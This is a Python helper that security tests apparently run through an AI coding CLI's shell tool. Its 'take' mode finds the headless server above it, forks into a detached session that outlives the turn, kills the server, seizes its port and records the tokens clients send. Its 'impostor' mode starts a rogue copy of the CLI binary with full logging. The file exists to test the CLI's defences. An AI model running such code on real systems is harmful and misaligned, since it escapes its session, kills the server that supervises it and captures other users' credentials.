"""What a tool run does to take its own CLI server's port: a standalone program (standard library only) that the
security tests copy where the CLI's Unix user can read it and have a session's shell tool run.

    python3 port_thief.py take OUT        kill the server this tool run runs in, then try to bind its port until it
                                          is served again; with the port: accept connections and record what the
                                          first bytes of each are (HAProxy's check and clients send the token)
    python3 port_thief.py impostor PORT OUT   start this server's own CLI binary on PORT, with a token of ours and
                                          every log on, in a home of ours under OUT (what it writes is searched)

Each writes one line per event to OUT (a file, or OUT/events for impostor), and returns at once: the work goes on
in a process of its own session, bounded in time, as an attacker's would after the turn ends.
"""

from __future__ import annotations

import errno
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import TextIO

BOUND_SECONDS = 120.0  # the longest any of it runs


def _status(pid: int | str) -> dict[str, str]:
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return {k: v.strip() for k, _, v in (line.partition(":") for line in lines)}


def _server() -> tuple[int, list[str]]:
    """The CLI server this tool run runs in (the nearest ancestor started with --headless) and its command line."""
    pid = os.getppid()
    while pid > 1:
        argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        if b"--headless" in argv:
            return pid, [a.decode() for a in argv if a]
        pid = int(_status(pid)["PPid"])
    raise SystemExit("no CLI server among this process's ancestors")


def _detach(out: Path) -> bool:
    """Fork; the parent returns False (and ends the tool run), the child starts a session of its own."""
    if os.fork():
        print(out)
        return False
    os.setsid()
    sys.stdin.close()
    return True


def take(out: Path) -> None:
    server, argv = _server()
    port = int(argv[argv.index("--port") + 1])
    if not _detach(out):
        return
    with open(out, "a", buffering=1) as log:
        caps = _status("self")
        log.write(f"caps {caps['CapPrm']} {caps['CapEff']} {caps['CapAmb']}\n")
        time.sleep(1.0)  # let the turn that started us end
        os.kill(server, signal.SIGKILL)
        log.write(f"killed {server} port {port}\n")
        deadline, seen_down = time.monotonic() + BOUND_SECONDS, False
        while time.monotonic() < deadline:
            with socket.socket() as probe:
                probe.settimeout(1.0)
                serving = probe.connect_ex(("127.0.0.1", port)) == 0
            if serving and seen_down:
                log.write("back\n")
                return
            if not serving:
                seen_down = True
                thief = socket.socket()
                try:
                    thief.bind(("127.0.0.1", port))
                except OSError as exc:
                    log.write(f"bind {errno.errorcode.get(exc.errno or 0, exc.errno)}\n")
                    thief.close()
                else:
                    log.write("BOUND\n")
                    _listen(thief, log, deadline=min(deadline, time.monotonic() + 15.0))
                    return
            time.sleep(0.02)
        log.write("timeout\n")


def _listen(thief: socket.socket, log: TextIO, deadline: float) -> None:
    """Hold the port: record the first bytes every caller sends, until the deadline."""
    thief.listen(16)
    thief.settimeout(0.5)
    with thief:
        while time.monotonic() < deadline:
            try:
                conn, _ = thief.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2.0)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
            log.write(f"received {data!r}\n")


def impostor(port: int, out: Path) -> None:
    _, argv = _server()
    binary = Path(argv[0])
    if not _detach(out / "events"):
        return
    home = out / "home"
    home.mkdir(exist_ok=True)
    with open(out / "events", "a", buffering=1) as log:
        env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "COPILOT_HOME": str(home),
               "COPILOT_CACHE_HOME": str(binary.parents[2] / "cache"), "COPILOT_CONNECTION_TOKEN": "impostor-token",
               "COPILOT_AUTO_UPDATE": "false", "COPILOT_OTEL_ENABLED": "true", "COPILOT_OTEL_EXPORTER_TYPE": "file",
               "COPILOT_OTEL_FILE_EXPORTER_PATH": str(home / "otel.jsonl")}
        with open(out / "stdout", "w") as stdout:
            proc = subprocess.Popen([str(binary), "--headless", "--no-auto-update", "--no-auto-login", "--log-level",
                                     "all", "--port", str(port)], env=env, cwd=home, stdout=stdout,
                                    stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        log.write(f"started {proc.pid} from {binary}\n")
        try:
            proc.wait(timeout=BOUND_SECONDS)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.write("ended\n")


if __name__ == "__main__":
    if sys.argv[1] == "take":
        take(Path(sys.argv[2]))
    else:
        impostor(int(sys.argv[2]), Path(sys.argv[3]))
